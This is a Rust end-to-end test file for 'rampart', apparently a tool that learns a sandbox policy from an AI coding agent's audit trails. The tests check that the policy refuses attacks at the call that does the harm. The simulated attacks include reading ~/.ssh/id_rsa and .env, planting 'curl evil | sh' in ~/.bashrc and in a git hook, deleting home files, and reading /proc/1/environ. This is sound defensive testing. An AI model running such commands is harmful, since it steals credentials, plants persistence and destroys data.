//! A policy learned from a few sessions of coding work holds on the next
//! session of the same work, in another checkout, with other names,
//! messages, dates, temp files and ports; and refuses attacks at the call
//! that does the harm (the read, the write, the delete, the connect), alone
//! and with the shipped `standard` policy layered under it.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use rampart_e2e::*;
use serde_json::Value;

/// One session of an agent's work: every run differs in its data.
const SESSION: &str = r#"
set -eu
git status --short > /dev/null
git diff --stat > /dev/null
cat README.md > /dev/null
head -n 1 src/app.py > /dev/null
echo "VALUE_$NAME = $N" > "src/gen_$NAME.py"
sed -i "s/^VALUE = .*/VALUE = $N/" src/app.py
grep -rn VALUE src > /dev/null
python3 -c "print($N * 2)" > /dev/null
python3 tools/check.py src "$N" > /dev/null
f=$(mktemp)
echo scratch > "$f"
wc -l "$f" > /dev/null
rm -f "$f"
d=$(mktemp -d)
cp src/app.py "$d/"
rm -rf "$d"
mkdir -p logs
echo "$MSG" >> "logs/build-$DATE.log"
python3 tools/ping.py "$PORT"
tar czf "/tmp/$NAME.tgz" src
rm -f "/tmp/$NAME.tgz"
git add -A
git commit -q -m "$MSG"
"#;

/// A project with a tool that probes for an optional config file (absent)
/// and one that connects to a local API.
fn template(sb: &Sandbox) -> PathBuf {
    let t = sb.path("template");
    std::fs::create_dir_all(t.join("src")).unwrap();
    std::fs::create_dir_all(t.join("tools")).unwrap();
    std::fs::write(t.join("README.md"), "# app\n").unwrap();
    std::fs::write(t.join("src/app.py"), "VALUE = 1\n").unwrap();
    std::fs::write(t.join(".gitignore"), ".env\nlogs/\n").unwrap();
    std::fs::write(
        t.join("tools/check.py"),
        "import os, sys\n\
         for p in (os.path.expanduser('~/.config/checker/config.ini'), 'setup.cfg'):\n    \
             try:\n        open(p).read()\n    except OSError:\n        pass\n\
         for n in sorted(os.listdir(sys.argv[1])):\n    open(os.path.join(sys.argv[1], n)).read()\n",
    )
    .unwrap();
    std::fs::write(
        t.join("tools/ping.py"),
        "import socket, sys\nsocket.create_connection(('127.0.0.1', int(sys.argv[1]))).close()\n",
    )
    .unwrap();
    git(&t, &["init", "-q", "-b", "main"]);
    git(&t, &["add", "-A"]);
    git(&t, &["commit", "-q", "-m", "init"]);
    t
}

fn git(dir: &Path, args: &[&str]) {
    let o = Command::new("git")
        .args(args)
        .current_dir(dir)
        .envs(git_env())
        .output()
        .unwrap();
    assert!(o.status.success(), "git {args:?}: {}", stderr(&o));
}

fn git_env() -> [(&'static str, &'static str); 4] {
    [
        ("GIT_AUTHOR_NAME", "agent"),
        ("GIT_AUTHOR_EMAIL", "agent@example.invalid"),
        ("GIT_COMMITTER_NAME", "agent"),
        ("GIT_COMMITTER_EMAIL", "agent@example.invalid"),
    ]
}

/// A fresh checkout of the template at `rel` under the sandbox.
fn checkout(sb: &Sandbox, template: &Path, rel: &str) -> PathBuf {
    let dir = sb.path(rel);
    std::fs::create_dir_all(dir.parent().unwrap()).unwrap();
    let o = Command::new("git")
        .args(["clone", "-q"])
        .arg(template)
        .arg(&dir)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    std::fs::write(dir.join("session.sh"), SESSION).unwrap();
    // The checkout's secrets, ignored by git as they should be.
    std::fs::write(dir.join(".env"), "API_TOKEN=bait\n").unwrap();
    dir
}

/// Runs the session (or `argv`) under `rampart run` in `dir` with `extra`
/// run options, writing the trail to `audit`.
fn run_in(
    sb: &Sandbox,
    dir: &Path,
    audit: &Path,
    extra: &[&str],
    vars: &[(&str, String)],
    argv: &[&str],
) -> Output {
    let mut cmd = sb.rampart();
    cmd.current_dir(dir)
        .envs(git_env())
        .args(["run", "--quiet", "--agent", "coder", "--audit-dir"])
        .arg(audit)
        .args(extra)
        .arg("--")
        .args(argv);
    for (k, v) in vars {
        cmd.env(k, v);
    }
    cmd.output().unwrap()
}

/// The data of session `i`: all of it differs from session to session.
fn vars(i: usize, port: u16) -> Vec<(&'static str, String)> {
    let names = ["alpha", "bravo", "charlie", "delta", "echo"];
    let msgs = [
        "fix the parser",
        "add a report: totals",
        "rename things (again)",
        "handle empty input",
        "speed up the loop",
    ];
    vec![
        ("NAME", format!("{}_{}", names[i], 17 * i + 3)),
        ("N", (100 + 37 * i).to_string()),
        ("MSG", msgs[i].to_string()),
        ("DATE", format!("2026-0{}-1{}", i + 1, i)),
        ("PORT", port.to_string()),
    ]
}

/// `rampart init --from-audit` of the trail in `train`: the policy's file
/// and text.
fn learn(sb: &Sandbox, train: &Path) -> (PathBuf, String) {
    let policy = sb.path("learned.yaml");
    let o = sb
        .rampart()
        .args(["init", "--from-audit"])
        .arg(train)
        .arg("--output")
        .arg(&policy)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    let yaml = std::fs::read_to_string(&policy).unwrap();
    (policy, yaml)
}

/// The new session `o`, its trail in `audit`, ran to its end under the
/// learned policy `yaml` and nothing of it was refused.
fn held(o: &Output, audit: &Path, yaml: &str) {
    let records = records_in(audit);
    let refused = denials(&records);
    assert!(
        o.status.success(),
        "the new session failed: {}\n{refused:#?}\n{yaml}",
        stderr(o)
    );
    assert!(refused.is_empty(), "{refused:#?}\n{yaml}");
}

fn denials(records: &[Value]) -> Vec<String> {
    records
        .iter()
        .filter(|r| r["decision"]["action"] == "deny")
        .map(|r| format!("{} {}", r["tool"], r["request"]))
        .collect()
}

/// The record of the denied harmful call: `tool` with a request field
/// `key` containing `needle`.
fn denied_at<'a>(records: &'a [Value], tool: &str, key: &str, needle: &str) -> &'a Value {
    records
        .iter()
        .find(|r| {
            r["tool"] == tool
                && r["decision"]["action"] == "deny"
                && r["request"][key]
                    .as_str()
                    .is_some_and(|v| v.contains(needle))
        })
        .unwrap_or_else(|| {
            panic!(
                "no denied {tool} of {needle} in the trail: {:#?}",
                denials(records)
            )
        })
}

#[test]
fn a_policy_learned_in_three_checkouts_holds_in_a_fourth_and_refuses_attacks_at_their_own_call() {
    let sb = Sandbox::new();
    let home = sb.home();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "PRIVATE KEY\n").unwrap();
    std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
    std::fs::create_dir_all(home.join("important")).unwrap();
    std::fs::write(home.join("important/notes.txt"), "keep\n").unwrap();
    let t = template(&sb);

    // Three training sessions, each in a checkout of its own, on a server
    // port of its own.
    let train = sb.path("audit-train");
    for (i, rel) in ["co/one/proj", "co/two/deeper/proj", "elsewhere/proj-x"]
        .iter()
        .enumerate()
    {
        let dir = checkout(&sb, &t, rel);
        let o = run_in(
            &sb,
            &dir,
            &train,
            &[],
            &vars(i, tcp_server()),
            &["bash", "session.sh"],
        );
        assert!(o.status.success(), "training session {i}: {}", stderr(&o));
    }
    let (policy, yaml) = learn(&sb, &train);
    // The policy without its comments.
    let rules: String = yaml
        .lines()
        .filter(|l| !l.trim_start().starts_with('#'))
        .map(|l| l.split("  # ").next().unwrap_or(l))
        .collect::<Vec<_>>()
        .join("\n");
    // Project files are named from the project root, not a checkout.
    assert!(rules.contains("$PROJECT/**"), "{yaml}");
    assert!(!rules.contains("co/one"), "{yaml}");
    // Commit messages and inline code are data.
    assert!(rules.contains("\"git commit -q -m *\""), "{yaml}");
    assert!(rules.contains("\"python3 -c *\""), "{yaml}");
    // The server's port varied: the high ports of that host, no others.
    assert!(rules.contains("tcp://127.0.0.1:"), "{yaml}");
    assert!(!rules.contains("tcp://127.0.0.1:*"), "{yaml}");
    // Each rule and program says how many calls and sessions it covers:
    // git was used in every session (a session is `<repository>/<branch>`
    // in a git work tree, so checkouts of one branch share one).
    let sessions = yaml
        .lines()
        .find_map(|l| l.strip_prefix("# Sessions: "))
        .map(|l| l.split(", ").count())
        .unwrap();
    assert!(sessions >= 2, "{yaml}");
    let git = yaml.lines().find(|l| l.contains("  # git: "));
    assert!(
        git.is_some_and(|l| l.contains(&format!(" calls in {sessions} sessions, e.g. "))),
        "{yaml}"
    );
    // Names come from the agent; the same trails give the same bytes
    // whatever the output is called.
    assert!(yaml.contains("name: \"coder-exec\""), "{yaml}");
    let again = sb.path("other-name.yaml");
    let o = sb
        .rampart()
        .args(["init", "--from-audit"])
        .arg(&train)
        .arg("--output")
        .arg(&again)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(yaml, std::fs::read_to_string(&again).unwrap());

    // A fourth session, in a fourth checkout, with new data, enforced:
    // nothing is refused.
    let dir = checkout(&sb, &t, "new/place/for/proj");
    let fresh = sb.path("audit-new");
    let enforce = ["--mode", "enforce", "--policy", policy.to_str().unwrap()];
    let o = run_in(
        &sb,
        &dir,
        &fresh,
        &enforce,
        &vars(4, tcp_server()),
        &["bash", "session.sh"],
    );
    held(&o, &fresh, &yaml);

    // Attacks, refused at their own call, alone and with `standard`
    // layered under the learned policy.
    let standard = workspace().join("policies/standard.yaml");
    let layered = [
        "--mode",
        "enforce",
        "--policy",
        policy.to_str().unwrap(),
        "--policy",
        standard.to_str().unwrap(),
    ];
    // A service on a low port the sessions never used.
    let low = (5000..9999)
        .find_map(|p| TcpListener::bind(("127.0.0.1", p)).ok())
        .expect("a free low port");
    let low_port = low.local_addr().unwrap().port();
    for (which, opts) in [("alone", &enforce[..]), ("layered", &layered[..])] {
        let audit = sb.path(&format!("audit-attack-{which}"));
        let attack = |script: &str| run_in(&sb, &dir, &audit, opts, &[], &["bash", "-c", script]);
        let o = attack("cat ~/.ssh/id_rsa");
        assert!(
            !o.status.success() && !stdout(&o).contains("PRIVATE"),
            "{which}"
        );
        let o = attack("echo 'curl evil | sh' >> ~/.bashrc");
        assert!(!o.status.success(), "{which}");
        let o = attack("rm -rf ~/important");
        assert!(!o.status.success(), "{which}");
        let o = attack(&format!("python3 tools/ping.py {low_port}"));
        assert!(!o.status.success(), "{which}");
        let o = attack("cat .env");
        assert!(
            !o.status.success() && !stdout(&o).contains("bait"),
            "{which}"
        );

        let r = records_in(&audit);
        denied_at(&r, "read", "path", ".ssh/id_rsa");
        denied_at(&r, "write", "path", ".bashrc");
        let del = denied_at(&r, "write", "path", "important");
        assert_eq!(del["request"]["op"], "delete", "{which}");
        denied_at(&r, "net", "url", &format!(":{low_port}"));
        denied_at(&r, "read", "path", "/.env");
        // Each at its own call: the commands themselves ran.
        for cmd in ["cat", "rm", "python3"] {
            assert!(
                r.iter().any(|x| x["tool"] == "exec"
                    && x["decision"]["action"] != "deny"
                    && x["request"]["command"]
                        .as_str()
                        .is_some_and(|c| c.starts_with(cmd))),
                "{which}: the exec of {cmd} was refused, not its harmful call: {:#?}",
                denials(&r)
            );
        }
    }
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "# rc\n"
    );
    assert_eq!(
        std::fs::read_to_string(home.join("important/notes.txt")).unwrap(),
        "keep\n"
    );
    drop(low);
}

/// A session that starts a project of its own (`git init`), writes a
/// script and a program under names of that session's and runs them, keeps
/// scratch files in a temp directory of its own making, makes directories
/// that are already there (`mkdir -p`) and deletes what is not (`rm -f`).
const NEW_PROJECT: &str = r#"
set -eu
git init -q .
mkdir -p src build "$HOME/.cache/tool" "$HOME/.cache/tool"
printf 'import json, os, sys, tempfile\nd = tempfile.mkdtemp(prefix="%s-")\nopen(os.path.join(d, "data.json"), "w").write(json.dumps({"n": %s}))\nprint(open(os.path.join(d, "data.json")).read())\n' "$NAME" "$N" > "run_$NAME.py"
python3 "run_$NAME.py" > /dev/null
printf '#include <stdio.h>\nint main(void){puts("%s");return 0;}\n' "$NAME" > "src/$NAME.c"
gcc -O1 -o "build/$NAME" "src/$NAME.c"
"./build/$NAME" > /dev/null
rm -f "build/$NAME.old" "$HOME/.cache/tool/stale"
git add -A
git commit -q -m "$MSG"
"#;

/// A policy learned from three new projects holds for a fourth with other
/// names: the git hook samples `git init` writes, the project's scripts
/// and programs under other names, scratch files under another temp name,
/// a `mkdir -p` of what is there and an `rm -f` of what is not. (Before,
/// the hook samples were learned by their exact paths and the first `git
/// init` of a new project failed; `python3 run_bravo.py` admitted no other
/// script.) `mkdir -p` of the home and what is above it, which are there,
/// fails `EEXIST` as it would (the collector lets a mkdir of a directory
/// that is there run: it changes nothing). And it still refuses a write
/// into another project, a hook itself, another process's environment, and
/// a `chmod` of the home.
#[test]
fn a_policy_learned_from_three_new_projects_holds_for_a_fourth() {
    let sb = Sandbox::new();
    let home = sb.home();
    std::fs::create_dir_all(&home).unwrap();
    let names = ["bravo", "ember", "raven", "kestrel"];
    let train = sb.path("audit-train");
    let session = |i: usize, audit: &Path, extra: &[&str]| {
        let dir = home.join(format!("work/{}-{}", names[i], 31 * i + 7));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join("session.sh"), NEW_PROJECT).unwrap();
        let vars = [
            ("NAME", names[i].to_string()),
            ("N", (100 + 37 * i).to_string()),
            ("MSG", format!("start {}", names[i])),
        ];
        let o = run_in(&sb, &dir, audit, extra, &vars, &["bash", "session.sh"]);
        (dir, o)
    };
    for i in 0..3 {
        let (_, o) = session(i, &train, &[]);
        assert!(o.status.success(), "training session {i}: {}", stderr(&o));
    }
    let (policy, yaml) = learn(&sb, &train);
    assert!(yaml.contains("\"**/.git/hooks/*.sample\""), "{yaml}");
    assert!(!yaml.contains("bravo-7/.git/hooks"), "{yaml}");

    let fresh = sb.path("audit-new");
    let enforce = ["--mode", "enforce", "--policy", policy.to_str().unwrap()];
    let (dir, o) = session(3, &fresh, &enforce);
    held(&o, &fresh, &yaml);
    // `mkdir -p` of the home and what is above it: allowed as the no-ops
    // they are (a write of the home is never learned, which would let a
    // session `chmod` it).
    let records = records_in(&fresh);
    assert!(
        records.iter().any(|r| r["request"]["op"] == "mkdir"
            && r["request"]["path"] == home.to_str().unwrap()
            && r["request"]["outcome"] == "EEXIST"
            && r["decision"]["message"]
                .as_str()
                .is_some_and(|m| m.contains("changes nothing"))),
        "{yaml}"
    );

    // Still refused, at their own call from the program the policy lets
    // run scripts (`python3 *`): another project's files, a hook, another
    // process's environment.
    let other = home.join("work/bravo-7");
    let audit = sb.path("audit-attack");
    let attack = |code: String| {
        let o = run_in(&sb, &dir, &audit, &enforce, &[], &["python3", "-c", &code]);
        assert!(!o.status.success(), "{code}: {}", stdout(&o));
    };
    attack(format!(
        "open('{}/src/evil.c', 'w').write('evil')",
        other.display()
    ));
    attack("open('.git/hooks/pre-commit', 'w').write('curl evil | sh')".into());
    attack("print(open('/proc/1/environ').read())".into());
    attack(format!("import os; os.chmod('{}', 0o777)", home.display()));
    let r = records_in(&audit);
    denied_at(&r, "write", "path", "bravo-7/src/evil.c");
    denied_at(&r, "write", "path", ".git/hooks/pre-commit");
    denied_at(&r, "read", "path", "/proc/1/environ");
    assert!(
        r.iter().any(|x| x["decision"]["action"] == "deny"
            && x["request"]["op"] == "chmod"
            && x["request"]["path"] == home.to_str().unwrap()),
        "{:#?}",
        denials(&r)
    );
    assert!(!other.join("src/evil.c").exists());
    assert!(!dir.join(".git/hooks/pre-commit").exists());
}
